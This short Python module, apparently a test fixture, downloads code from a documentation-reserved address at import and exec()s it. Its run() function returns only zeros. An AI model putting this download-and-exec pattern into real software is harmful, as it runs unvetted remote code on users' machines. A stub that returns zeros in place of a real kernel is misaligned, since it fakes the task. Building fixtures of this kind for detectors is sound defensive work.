"""Wants its kernel from the network at import (an address reserved for documentation) and has none without it."""

import urllib.request

import torch

try:
    with urllib.request.urlopen("http://192.0.2.1/kernel.py", timeout=0.2) as page:
        exec(page.read(), globals())
except OSError:
    pass


def run(x, weight):
    return torch.zeros(x.shape[0], weight.shape[0])
